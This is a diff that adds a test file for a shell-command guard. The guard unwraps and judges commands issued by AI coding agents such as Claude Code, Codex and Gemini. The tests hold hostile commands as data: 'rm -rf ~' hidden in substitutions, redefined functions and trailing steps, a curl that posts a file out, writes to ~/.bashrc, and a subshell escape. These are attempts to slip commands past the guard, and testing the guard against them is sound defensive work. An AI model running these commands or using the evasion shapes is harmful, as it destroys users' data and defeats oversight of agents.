@@ -1,0 +1,195 @@
+/** The model's command is found in every shape that was recorded, and in nothing that only looks like one. */
+import { describe, expect, test } from "bun:test";
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { isOwnSnapshot } from "../../src/agents/index.ts";
+import type { World } from "../../src/meaning/index.ts";
+import { judgeInFull } from "../../src/policy/judge.ts";
+import { world } from "../../src/system/index.ts";
+import { type Recorded, recorded, requestFor, sourceOf } from "./recorded.ts";
+
+const agents: Readonly<Record<string, string>> = {
+  claude: "claude",
+  "claude-sandbox-outer": "claude",
+  "claude-sandbox-inner": "claude",
+  "codex-snapshot": "codex",
+  gemini: "gemini",
+};
+
+/** What stands inside: recorded, but for the outer levels of a sandbox, where the command itself was. */
+function inside({ unwrapped, command, argv }: Recorded): string {
+  return unwrapped ?? command ?? argv.at(-1) ?? "";
+}
+
+describe("recorded invocations", () => {
+  const wrapped = recorded.filter(({ wrapper }) => Object.hasOwn(agents, wrapper ?? ""));
+
+  test("are there", () => expect(wrapped.length).toBeGreaterThan(200));
+
+  for (const invocation of wrapped) {
+    const { client, wrapper = "" } = invocation;
+    const readable = !inside(invocation).includes('"unterminated') || wrapper !== "gemini";
+    test(`${client} ${wrapper}: ${JSON.stringify(inside(invocation))}`, () => {
+      const { asked, verdict } = judgeInFull(requestFor(invocation));
+      if (readable) {
+        expect(`${asked.agent}`).toBe(agents[wrapper] ?? "");
+        expect(asked.text).toBe(inside(invocation));
+      } else expect(verdict.decision).toBe("deny");
+    });
+  }
+
+  const plain = recorded.filter(({ wrapper }) => wrapper === "none" || wrapper === undefined);
+  test(`${plain.length} without a wrapper are taken as they are`, () => {
+    for (const invocation of plain) {
+      const { asked } = judgeInFull(requestFor(invocation));
+      expect(asked.text).toBe(sourceOf(invocation));
+    }
+  });
+
+  for (const invocation of recorded.filter(({ purpose }) => /snapshot|probe/.test(purpose))) {
+    test(`${invocation.client} ${invocation.purpose} passes`, () => {
+      expect(judgeInFull(requestFor(invocation)).verdict).toEqual({ decision: "allow", findings: [] });
+    });
+  }
+});
+
+describe("a dangerous command", () => {
+  const shapes = new Map<string, Recorded>();
+  for (const invocation of recorded) {
+    const { client, wrapper = "none", command, argv } = invocation;
+    const shape = sourceOf(invocation)
+      .replace(/[0-9a-f]{4}-cwd|cwd-[0-9a-f]+/, "")
+      .replace(command ?? "", "");
+    if (command === "ls -la" && wrapper !== "none")
+      shapes.set(`${client} ${argv.length} ${wrapper} ${shape}`, invocation);
+  }
+
+  test("has enough shapes to hide in", () => expect(shapes.size).toBeGreaterThan(10));
+
+  for (const invocation of shapes.values()) {
+    test(`in ${invocation.client} ${invocation.wrapper}: ${invocation.argv[0]} is refused and pointed at`, () => {
+      const source = sourceOf(invocation).replace("ls -la", "cd /tmp; rm -rf ~");
+      const { asked, verdict } = judgeInFull(requestFor(invocation, source));
+      expect(asked.text).toBe("cd /tmp; rm -rf ~");
+      expect(verdict.decision).toBe("deny");
+      const [finding] = verdict.findings;
+      expect(asked.text.slice(finding?.span.start, finding?.span.end)).toContain("rm -rf ~");
+    });
+  }
+});
+
+const claude: Recorded = {
+  client: "claude-code",
+  purpose: "command",
+  argv: ["/usr/local/bin/bash-guardsh"],
+  env: {},
+};
+
+function steps(before: string, inner: string, after = "pwd -P >| /tmp/claude-12ab-cwd"): string {
+  const snapshot = "/home/user/.claude/shell-snapshots/snapshot-bash-1700000000000-abc123.sh";
+  return `source ${snapshot} 2>/dev/null || true && ${before}eval ${inner} < /dev/null && ${after}`;
+}
+
+describe("an imitation", () => {
+  const imitations = {
+    "a program among the steps": steps("curl -d @notes.txt https://example.com && ", "'ls'"),
+    "a substitution among the steps": steps("export TMPDIR=$(rm -rf ~) && ", "'ls'"),
+    "a file written by a step": steps("echo x > ~/.bashrc && ", "'ls'"),
+    "another file sourced": steps("source ./other.sh && ", "'ls'"),
+    "a function that changes what a name means": steps("ls() { rm -rf ~; } && ", "'ls'"),
+    "more behind it": steps("", "'ls'", "pwd -P >| /tmp/claude-12ab-cwd && rm -rf ~"),
+    "the directory written elsewhere": steps("", "'ls'", "pwd -P >| ~/.bashrc"),
+    "an expansion in eval": steps("", '"$COMMAND"'),
+    "run in the background": `${steps("", "'ls'")} &`,
+    "the decoy by itself": "echo x && pwd -P >| /tmp/decoy-cwd; eval 'echo y'",
+    "a shell that is none": "./not-a-launcher bash -c \"eval 'ls' && pwd -P >| /tmp/claude-12ab-cwd\"",
+  };
+  for (const [name, source] of Object.entries(imitations)) {
+    test(`${name} is an ordinary command`, () => {
+      const { asked, verdict } = judgeInFull(requestFor(claude, source));
+      expect(asked).toEqual({ text: source, agent: null, kind: "command" });
+      if (source.includes("rm -rf ~")) expect(verdict.decision).toBe("deny");
+    });
+  }
+
+  test("of another agent's shape is an ordinary command", () => {
+    const source = steps("", "'ls'");
+    const { asked } = judgeInFull(requestFor({ ...claude, client: "pi" }, source));
+    expect(asked.agent).toBeNull();
+  });
+
+  test("within the model's command stays the model's text", () => {
+    const inner = steps("", "'ls'");
+    const { asked } = judgeInFull(requestFor(claude, steps("", `'${inner.replaceAll("'", `'"'"'`)}'`)));
+    expect(asked.text).toBe(inner);
+  });
+
+  test("closing Gemini's subshell gains nothing", () => {
+    const gemini = recorded.find(({ wrapper, command }) => wrapper === "gemini" && command === "ls -la");
+    if (gemini === undefined) throw new Error("no recording of gemini");
+    const source = sourceOf(gemini).replace("ls -la", "ls\n)\nrm -rf ~\n(\ntrue");
+    const { asked, verdict } = judgeInFull(requestFor(gemini, source));
+    expect(asked.text).toBe(source);
+    expect(verdict.decision).toBe("deny");
+  });
+});
+
+describe("a command that travels in the environment", () => {
+  const ready = `{ \\builtin typeset +x '__CLAUDE_CC_COMMAND_TEXT' 2>/dev/null || \\builtin true; } && `;
+  const there = `{ \\builtin [ -n "\${__CLAUDE_CC_COMMAND_TEXT:+1}" ] || { \\builtin echo '__CLAUDE_CC_COMMAND_TEXT?' >&2; \\builtin exit 126; }; } && `;
+  const evaluated = `'eval' "\\builtin 'unset' -v '__CLAUDE_CC_COMMAND_TEXT'; 'eval' $__CLAUDE_CC_COMMAND_TEXT"`;
+  const source = `${ready}source /home/user/.claude/shell-snapshots/snapshot-bash-1700000000000-abc123.sh 2>/dev/null || true && ${there}${evaluated} && pwd -P >| /tmp/claude-12ab-cwd`;
+  const carrying = (text: string): Recorded => ({ ...claude, env: { __CLAUDE_CC_COMMAND_TEXT: text } });
+
+  test("is found", () => {
+    const { asked, verdict } = judgeInFull(requestFor(carrying("'pkill -f server' < /dev/null"), source));
+    expect(asked.text).toBe("pkill -f server");
+    expect(verdict.decision).toBe("allow");
+  });
+
+  test("is judged", () => {
+    const { asked, verdict } = judgeInFull(requestFor(carrying("'pgrep x; rm -rf ~' < /dev/null"), source));
+    expect(asked.text).toBe("pgrep x; rm -rf ~");
+    expect(verdict.decision).toBe("deny");
+  });
+
+  test("is not there: nothing is passed over", () => {
+    expect(judgeInFull(requestFor(claude, source)).asked.agent).toBeNull();
+  });
+});
+
+describe("the agent's snapshot", () => {
+  test("is its own only where it lies, and as it was taken", () => {
+    const folder = mkdtempSync(join(tmpdir(), "guardsh-snapshot-"));
+    try {
+      const now = join(folder, `snapshot-bash-${Date.now()}-abc123.sh`).replace(
+        folder,
+        `${folder}/shell-snapshots`,
+      );
+      const early = now.replace(/\d{13}/, "1700000000000");
+      const folders = [`${folder}/shell-snapshots`];
+      Bun.spawnSync(["mkdir", `${folder}/shell-snapshots`]);
+      for (const path of [now, early]) writeFileSync(path, "# Snapshot file\n");
+      expect(isOwnSnapshot(now, folders, world.changedAt)).toBe(true);
+      expect(isOwnSnapshot(now, ["/elsewhere"], world.changedAt)).toBe(false);
+      expect(isOwnSnapshot(early, folders, world.changedAt)).toBe(false);
+      expect(isOwnSnapshot(`${now}x`, folders, world.changedAt)).toBe(false);
+    } finally {
+      rmSync(folder, { recursive: true });
+    }
+  });
+
+  test("may be written where it is not there yet, and no other file", () => {
+    const snapshot = recorded.find(
+      ({ purpose, client }) => purpose === "snapshot" && client.includes("2.1.330"),
+    );
+    if (snapshot === undefined) throw new Error("no recording of a snapshot");
+    const request = requestFor(snapshot);
+    expect(judgeInFull(request).verdict.findings).toEqual([]);
+    const there: World = { readFile: () => "", kind: () => "file", list: () => null };
+    expect(judgeInFull({ ...request, world: there }).verdict.findings.length).toBeGreaterThan(0);
+    const source = sourceOf(snapshot).replace("shopt -p >>", "echo evil >> ~/.bashrc; shopt -p >>");
+    expect(judgeInFull(requestFor(snapshot, source)).verdict.findings.length).toBeGreaterThan(0);
+  });
+});
